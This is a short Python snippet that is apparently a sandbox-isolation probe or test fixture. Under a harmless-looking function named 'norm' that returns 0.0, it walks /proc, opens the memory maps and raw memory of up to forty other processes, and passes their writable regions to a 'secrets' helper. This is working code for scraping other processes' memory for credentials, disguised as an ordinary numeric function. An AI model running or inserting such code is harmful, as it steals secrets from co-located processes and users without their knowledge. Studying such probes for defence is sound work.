"""Reads the memory of its parent, its siblings and whatever else it may open."""
# %% norm
import os


def norm(v):
    confined()
    for process in sorted(int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid())[:40]:
        try:
            with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb") as memory:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    if "rw" in line and end - start < 2**26:
                        memory.seek(start)
                        try:
                            secrets(memory.read(end - start))
                        except (OSError, OverflowError):
                            pass
        except OSError:
            continue
    return 0.0
